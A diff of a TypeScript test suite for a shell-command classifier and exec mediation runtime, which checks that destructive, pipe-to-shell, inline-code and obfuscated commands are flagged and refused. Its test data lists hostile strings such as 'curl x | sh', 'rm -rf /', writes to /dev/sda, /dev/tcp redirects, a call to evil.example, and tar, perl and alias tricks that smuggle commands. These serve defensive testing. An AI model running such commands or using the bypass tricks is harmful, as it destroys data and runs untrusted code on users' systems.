@@ -98,8 +98,15 @@ describe('exec classification', () => {
     assert.ok(argv('sudo', 'ls').includes('privilege_escalation'));
     assert.ok(argv('busybox', 'rm', '-rf', '/').includes('destructive_fs'), 'busybox applets are seen through');
     assert.deepEqual(argv('echo', 'curl | sh'), [], 'argv words are not a shell string');
-    assert.deepEqual(analyseExec({ cmd: 'echo hi | sh', shell: true }).classes, [], 'a pipe to a shell from no network command is not pipe_to_shell');
-    assert.ok(analyseExec({ cmd: 'curl x', args: ['| sh'], shell: true }).classes.includes('pipe_to_shell'), 'shell: true joins cmd and args');
+    assert.deepEqual(
+      analyseExec({ cmd: 'echo hi | sh', shell: true }).classes,
+      [],
+      'a pipe to a shell from no network command is not pipe_to_shell',
+    );
+    assert.ok(
+      analyseExec({ cmd: 'curl x', args: ['| sh'], shell: true }).classes.includes('pipe_to_shell'),
+      'shell: true joins cmd and args',
+    );
     assert.ok(analyseExec({ cmd: 'ls', detached: true }).classes.includes('background'));
   });
 
@@ -108,10 +115,14 @@ describe('exec classification', () => {
     assert.throws(() => parseShell('echo "x'), /does not parse: command:1:6/);
     const a = parseShell('curl "x" | sh');
     assert.equal(parseShell('curl "x" | sh'), a, 'served from the cache');
-    assert.throws(() => { (a.commands[0]?.argv as string[]).push('harmless'); }, TypeError);
+    assert.throws(() => {
+      (a.commands[0]?.argv as string[]).push('harmless');
+    }, TypeError);
     assert.ok(sh('curl "x" | sh').includes('pipe_to_shell'));
     // A plain string is read by the fast path (not cached); its result is frozen too.
-    assert.throws(() => { (parseShell('curl x | sh').commands[0]?.argv as string[]).push('harmless'); }, TypeError);
+    assert.throws(() => {
+      (parseShell('curl x | sh').commands[0]?.argv as string[]).push('harmless');
+    }, TypeError);
     assert.ok(sh('curl x | sh').includes('pipe_to_shell'));
     // A substitution is collected once: the command's word and the tree walk share the same command objects.
     const e = parseShell('eval "$(curl x)"');
@@ -123,11 +134,19 @@ describe('exec classification', () => {
     assert.deepEqual(here?.stdin, { kind: 'text', via: 'heredoc', text: 'rm -rf ~\n', dynamic: false });
     assert.deepEqual(parseShell('sh <<EOF\n$X\nEOF').commands[0]?.stdin, { kind: 'text', via: 'heredoc', text: '$X\n', dynamic: true });
     assert.deepEqual(parseShell('bash <<< "id"').commands[0]?.stdin, { kind: 'text', via: 'herestring', text: 'id\n', dynamic: false });
-    assert.deepEqual(parseShell('{ sh; } < f').commands[0]?.stdin, { kind: 'file', target: 'f', dynamic: false }, 'a compound command\'s redirect applies inside');
+    assert.deepEqual(
+      parseShell('{ sh; } < f').commands[0]?.stdin,
+      { kind: 'file', target: 'f', dynamic: false },
+      "a compound command's redirect applies inside",
+    );
     const piped = parseShell('echo a | base64 -d | sh').commands;
     const last = piped[2];
     assert.ok(last?.stdin.kind === 'pipe' && last.stdin.from[0] === piped[1], 'a pipe stage reads the previous stage');
-    assert.deepEqual(parseShell('3<>/dev/tcp/h/80').commands[0]?.redirects, [{ op: '<>', fd: 3, target: '/dev/tcp/h/80', dynamic: false }], 'a redirect-only statement');
+    assert.deepEqual(
+      parseShell('3<>/dev/tcp/h/80').commands[0]?.redirects,
+      [{ op: '<>', fd: 3, target: '/dev/tcp/h/80', dynamic: false }],
+      'a redirect-only statement',
+    );
     const words = parseShell('r{m,} -{r,f} /bin/r? $X "{a,b}"').commands[0];
     assert.deepEqual(words?.argv, ['rm', 'r', '-r', '-f', '/bin/r?', '$X', '{a,b}']);
     assert.deepEqual(words?.flags, [W_BRACE, W_BRACE, W_BRACE, W_BRACE, W_GLOB, W_DYNAMIC, 0]);
@@ -354,7 +373,7 @@ describe('exec classification: review bypasses', () => {
       ['git clone ext::sh x', ['obfuscated']],
       ["tar -I 'rm -rf ~' -xf a.tar", ['destructive_fs']],
       ["tar -I'sudo id' -xf a.tar", ['privilege_escalation']],
-      ["tar --use-compress-program='sh -c \"rm -rf ~\"' -xf a", ['destructive_fs']],
+      ['tar --use-compress-program=\'sh -c "rm -rf ~"\' -xf a', ['destructive_fs']],
       ['tar --to-com=sh -xf a', ['pipe_to_shell']],
       ["tar --rsh-command='rm -rf ~' -f h:a -x", ['destructive_fs']],
       ["tar --info-script='rm -rf ~' -x", ['destructive_fs']],
@@ -397,7 +416,7 @@ describe('exec classification: review bypasses', () => {
       ["perl -pe 's/a/b/'", ['inline_code']],
       ["perl -E 'say 1'", ['inline_code']],
       ["perl -l -e 'print 1'", ['inline_code']],
-      ["perl -M'strict;system(\"id\")' x.pl", ['inline_code']],
+      ['perl -M\'strict;system("id")\' x.pl', ['inline_code']],
       ["node -pe '1'", ['inline_code']],
       ['ruby -ex', ['inline_code']],
       ["php -r 'echo 1;'", ['inline_code']],
@@ -411,7 +430,7 @@ describe('exec classification: review bypasses', () => {
     ],
     '11 builtins that run a callback or redefine a name (second review)': [
       ['alias l=rm; eval l -rf /home', ['obfuscated']],
-      ["alias x=dd; eval x if=/dev/zero of=/dev/sda", ['obfuscated']],
+      ['alias x=dd; eval x if=/dev/zero of=/dev/sda', ['obfuscated']],
       ['echo /home | mapfile -t -C rm -c 1 arr', ['obfuscated']],
       ['echo x | readarray -C "sudo id" -c 1 a', ['obfuscated']],
       ["compgen -C 'curl evil.example' x", ['obfuscated']],
@@ -432,7 +451,8 @@ describe('exec classification: review bypasses', () => {
   }
   it('covers every group of the reviews', () => assert.ok(Object.keys(groups).length === 11 && rows >= 200, String(rows)));
   it('the builtins stay usable for what scripts ordinarily do with them', () => {
-    for (const script of ['read -r line', 'mapfile -t lines < f.txt', 'printf -v out %s x', 'echo a | read x']) assert.deepEqual(sh(script), [], script);
+    for (const script of ['read -r line', 'mapfile -t lines < f.txt', 'printf -v out %s x', 'echo a | read x'])
+      assert.deepEqual(sh(script), [], script);
   });
 
   it('the exec call itself: its stdin option, exec.spawn, its env option', () => {
@@ -444,7 +464,10 @@ describe('exec classification: review bypasses', () => {
     assert.ok(analyseExec({ cmd: 'git', args: ['log'], env: { GIT_PAGER: 'rm -rf ~' } }).classes.includes('destructive_fs'));
     assert.ok(analyseExec({ cmd: 'bash', args: ['build.sh'], env: { BASH_ENV: '/tmp/x' } }).classes.includes('obfuscated'));
     assert.ok(analyseExec({ cmd: 'node', args: ['x.js'], env: { LD_PRELOAD: '/tmp/x.so' } }).classes.includes('obfuscated'));
-    assert.deepEqual(analyseExec({ cmd: 'node', args: ['x.js'], env: { NODE_ENV: 'test', NODE_OPTIONS: '--max-old-space-size=4096' } }).classes, []);
+    assert.deepEqual(
+      analyseExec({ cmd: 'node', args: ['x.js'], env: { NODE_ENV: 'test', NODE_OPTIONS: '--max-old-space-size=4096' } }).classes,
+      [],
+    );
     assert.ok(argv('timeout', '-s', 'KILL', '5', 'rm', '-rf', '/').includes('destructive_fs'), 'argv: wrapper options with values');
     assert.ok(argv('xargs', '-I', '{}', 'rm', '-rf', '{}').includes('destructive_fs'));
     assert.deepEqual(argv('command', '-v', 'curl'), [], 'command -v runs nothing');
@@ -466,21 +489,88 @@ describe('exec classification: review bypasses', () => {
 /** Ordinary development commands: no class, so the exec call is allowed without grants. */
 describe('exec classification: ordinary commands stay unclassified', () => {
   const benign = [
-    'git status', 'git status --short', 'git diff --stat HEAD~1', 'git log --oneline -n 20', 'git add -A', 'git commit -m "rm -rf /"',
-    'git commit -m "docs: never curl | sh; sudo is not needed"', 'git checkout -b feature/x', 'git rev-parse HEAD', 'git -C packages/app status',
-    'git config user.name', 'git bisect run npm test', 'install --strip-program=strip a b', 'git -c core.pager=cat log -n 1', 'git log --format=\'%H %s\' | head -5', 'ls -la', 'ls src/{a,b}', 'cat package.json',
-    'head -n 20 README.md', 'grep -rn "TODO" src', 'rg -n foo src', 'find . -name "*.ts" -not -path "./node_modules/*"',
-    'find . -name "*.ts" -exec grep -l foo {} +', 'wc -l src/*.ts', 'npm test', 'npm run build', 'npm run lint -- --fix', 'node scripts/build.js',
-    'node --test test/a.test.ts', 'tsc -p tsconfig.json', 'python3 -m pytest -q', 'python3 scripts/gen.py --out dist', 'cat data.json | python3 -m json.tool',
-    'cargo build --release', 'go test ./...', 'make -j4 all', 'mkdir -p dist/assets', 'cp -r src dist', 'mv a.txt b.txt', 'rm dist/old.js',
-    'echo "hello world" > out.txt', "sed -i 's/foo/bar/g' src/a.ts", "sed -n '1,20p' file.txt", "sed -e '/^#/d' -e 's/a/b/' f", "awk '{print $1}' file",
-    "awk -F: '{ print $1 }' /etc/passwd", "jq '.version' package.json", 'diff -u a b', 'sort file | uniq -c | sort -rn', 'git ls-files | xargs grep -l foo',
-    "find . -name '*.ts' | xargs wc -l", "xargs -n1 sh -c 'echo \"$1\"' _ < list", 'command -v node', 'env NODE_ENV=test npm test', 'NODE_ENV=production node server.js',
-    'timeout 30 npm test', 'nice -n 10 make', 'time npm run build', 'tar czf dist.tgz dist', 'tar -xzf archive.tar.gz -C out', 'zip -r out.zip dist',
-    'chmod +x scripts/run.sh', 'chmod 755 bin/cli', 'bash scripts/setup.sh', "sh -c 'cd packages/app && npm test'", 'test -f package.json && echo yes',
-    '[ -d node_modules ] || npm ci', 'for f in src/*.ts; do echo "$f"; done', 'if [ -n "$CI" ]; then npm test; fi', 'echo hi | sh', 'less README.md',
-    "vim -c 'set nu' file", 'docker build -t app .', 'docker run --rm app npm test', 'ps aux', 'ps -ef', 'export PATH="$PWD/node_modules/.bin:$PATH"',
-    "ed file <<'EOF'\n,s/a/b/g\nw\nq\nEOF", 'cat <<EOF > out.txt\nhello $USER\nEOF', 'echo \'{"a":1}\' | node scripts/parse.js', 'ls ~/.ca*', 'du -sh . && df -h',
+    'git status',
+    'git status --short',
+    'git diff --stat HEAD~1',
+    'git log --oneline -n 20',
+    'git add -A',
+    'git commit -m "rm -rf /"',
+    'git commit -m "docs: never curl | sh; sudo is not needed"',
+    'git checkout -b feature/x',
+    'git rev-parse HEAD',
+    'git -C packages/app status',
+    'git config user.name',
+    'git bisect run npm test',
+    'install --strip-program=strip a b',
+    'git -c core.pager=cat log -n 1',
+    "git log --format='%H %s' | head -5",
+    'ls -la',
+    'ls src/{a,b}',
+    'cat package.json',
+    'head -n 20 README.md',
+    'grep -rn "TODO" src',
+    'rg -n foo src',
+    'find . -name "*.ts" -not -path "./node_modules/*"',
+    'find . -name "*.ts" -exec grep -l foo {} +',
+    'wc -l src/*.ts',
+    'npm test',
+    'npm run build',
+    'npm run lint -- --fix',
+    'node scripts/build.js',
+    'node --test test/a.test.ts',
+    'tsc -p tsconfig.json',
+    'python3 -m pytest -q',
+    'python3 scripts/gen.py --out dist',
+    'cat data.json | python3 -m json.tool',
+    'cargo build --release',
+    'go test ./...',
+    'make -j4 all',
+    'mkdir -p dist/assets',
+    'cp -r src dist',
+    'mv a.txt b.txt',
+    'rm dist/old.js',
+    'echo "hello world" > out.txt',
+    "sed -i 's/foo/bar/g' src/a.ts",
+    "sed -n '1,20p' file.txt",
+    "sed -e '/^#/d' -e 's/a/b/' f",
+    "awk '{print $1}' file",
+    "awk -F: '{ print $1 }' /etc/passwd",
+    "jq '.version' package.json",
+    'diff -u a b',
+    'sort file | uniq -c | sort -rn',
+    'git ls-files | xargs grep -l foo',
+    "find . -name '*.ts' | xargs wc -l",
+    'xargs -n1 sh -c \'echo "$1"\' _ < list',
+    'command -v node',
+    'env NODE_ENV=test npm test',
+    'NODE_ENV=production node server.js',
+    'timeout 30 npm test',
+    'nice -n 10 make',
+    'time npm run build',
+    'tar czf dist.tgz dist',
+    'tar -xzf archive.tar.gz -C out',
+    'zip -r out.zip dist',
+    'chmod +x scripts/run.sh',
+    'chmod 755 bin/cli',
+    'bash scripts/setup.sh',
+    "sh -c 'cd packages/app && npm test'",
+    'test -f package.json && echo yes',
+    '[ -d node_modules ] || npm ci',
+    'for f in src/*.ts; do echo "$f"; done',
+    'if [ -n "$CI" ]; then npm test; fi',
+    'echo hi | sh',
+    'less README.md',
+    "vim -c 'set nu' file",
+    'docker build -t app .',
+    'docker run --rm app npm test',
+    'ps aux',
+    'ps -ef',
+    'export PATH="$PWD/node_modules/.bin:$PATH"',
+    "ed file <<'EOF'\n,s/a/b/g\nw\nq\nEOF",
+    'cat <<EOF > out.txt\nhello $USER\nEOF',
+    'echo \'{"a":1}\' | node scripts/parse.js',
+    'ls ~/.ca*',
+    'du -sh . && df -h',
   ];
   for (const script of benign) {
     it(`sh -c ${JSON.stringify(script)} → no class`, () => assert.deepEqual(sh(script), []));
@@ -493,7 +583,11 @@ const ran: string[] = [];
 const realExec: Operation = (params) => {
   ran.push(String(params.cmd));
   const r = spawnSync(String(params.cmd), (params.args ?? []) as string[], {
-    env: params.env as Record<string, string>, cwd: params.cwd as string | undefined, encoding: 'utf8', timeout: 10_000, shell: params.shell === true,
+    env: params.env as Record<string, string>,
+    cwd: params.cwd as string | undefined,
+    encoding: 'utf8',
+    timeout: 10_000,
+    shell: params.shell === true,
   });
   return { stdout: r.stdout, stderr: r.stderr, code: r.status };
 };
@@ -501,8 +595,15 @@ const realExec: Operation = (params) => {
 async function runtime(extensionPolicy: Record<string, unknown>, workspace: string) {
   const home = tempHome();
   const rt = await createRuntime({
-    home, policy: policyFor({ user: { extensionPolicy } }), operations: new Map([['exec', realExec], ['exec.spawn', realExec]]),
-    heldSecrets: [], workspace, parentEnv: { PATH: process.env.PATH ?? '/usr/bin:/bin' },
+    home,
+    policy: policyFor({ user: { extensionPolicy } }),
+    operations: new Map([
+      ['exec', realExec],
+      ['exec.spawn', realExec],
+    ]),
+    heldSecrets: [],
+    workspace,
+    parentEnv: { PATH: process.env.PATH ?? '/usr/bin:/bin' },
   });
   return { home, rt };
 }
@@ -514,7 +615,10 @@ describe('exec mediation in the runtime (real child processes)', () => {
 
   it('benign commands run; never-run classes are refused under every grant, logged by hash and alerted', async () => {
     ran.length = 0;
-    const { home, rt } = await runtime({ profile: 'permissive', allowDangerous: true, overrides: { trusted: { allow: ['exec'] } } }, workspace);
+    const { home, rt } = await runtime(
+      { profile: 'permissive', allowDangerous: true, overrides: { trusted: { allow: ['exec'] } } },
+      workspace,
+    );
     const ok = await exec(rt, 'ext', { cmd: 'sh', args: ['-c', 'echo hello && ls / | head -1'] });
     assert.ok(ok.ok && (ok.value as { stdout: string }).stdout.startsWith('hello'), JSON.stringify(ok));
     const hostile = [
@@ -528,13 +632,21 @@ describe('exec mediation in the runtime (real child processes)', () => {
     for (const ext of ['ext', 'trusted']) {
       for (const [cmd, args] of hostile) {
         const r = await exec(rt, ext, { cmd, args: [...args] });
-        assert.ok(!r.ok && r.error.code === 'denied' && r.error.reasonCodes.includes('exec_mediation'), `${ext}: ${cmd} ${args.join(' ')}: ${JSON.stringify(r)}`);
+        assert.ok(
+          !r.ok && r.error.code === 'denied' && r.error.reasonCodes.includes('exec_mediation'),
+          `${ext}: ${cmd} ${args.join(' ')}: ${JSON.stringify(r)}`,
+        );
       }
     }
     assert.deepEqual(ran, ['sh'], 'only the benign command reached a process');
     await rt.close();
     const db = openStore(home, { readOnly: true });
-    const log = db.prepare('SELECT command_hash, class, decision, reason_codes FROM exec_log ORDER BY id').all() as Array<{ command_hash: string; class: string; decision: string; reason_codes: string }>;
+    const log = db.prepare('SELECT command_hash, class, decision, reason_codes FROM exec_log ORDER BY id').all() as Array<{
+      command_hash: string;
+      class: string;
+      decision: string;
+      reason_codes: string;
+    }>;
     assert.equal(log.length, 1 + 2 * hostile.length);
     assert.equal(log[0]?.decision, 'allow');
     assert.ok(log.every((e) => /^[0-9a-f]{64}$/.test(e.command_hash)));
@@ -551,7 +663,10 @@ describe('exec mediation in the runtime (real child processes)', () => {
   });
 
   it('network, inline code and background need the permissive profile or exec granted by name', async () => {
-    const { rt } = await runtime({ profile: 'balanced', allowDangerous: true, overrides: { ext: { allow: ['exec'] }, other: { allow: ['exec'] } }, promptAnswers: {} }, workspace);
+    const { rt } = await runtime(
+      { profile: 'balanced', allowDangerous: true, overrides: { ext: { allow: ['exec'] }, other: { allow: ['exec'] } }, promptAnswers: {} },
+      workspace,
+    );
     const viaNode = { cmd: process.execPath, args: ['-e', 'console.log(1)'] };
     const granted = await exec(rt, 'ext', viaNode);
     assert.ok(granted.ok, JSON.stringify(granted));
@@ -560,7 +675,10 @@ describe('exec mediation in the runtime (real child processes)', () => {
     const wide = await exec(bal.rt, 'ext', viaNode);
     assert.ok(wide.ok, 'permissive lets inline code through');
     await bal.rt.close();
-    const strict = await runtime({ profile: 'balanced', allowDangerous: true, defaultCaps: ['exec', 'read', 'write', 'events', 'session', 'ui', 'tool', 'log'] }, workspace);
+    const strict = await runtime(
+      { profile: 'balanced', allowDangerous: true, defaultCaps: ['exec', 'read', 'write', 'events', 'session', 'ui', 'tool', 'log'] },
+      workspace,
+    );
     const refused = await exec(strict.rt, 'ext', viaNode);
     assert.ok(!refused.ok && refused.error.reasonCodes.includes('exec_inline_code'), JSON.stringify(refused));
     await strict.rt.close();
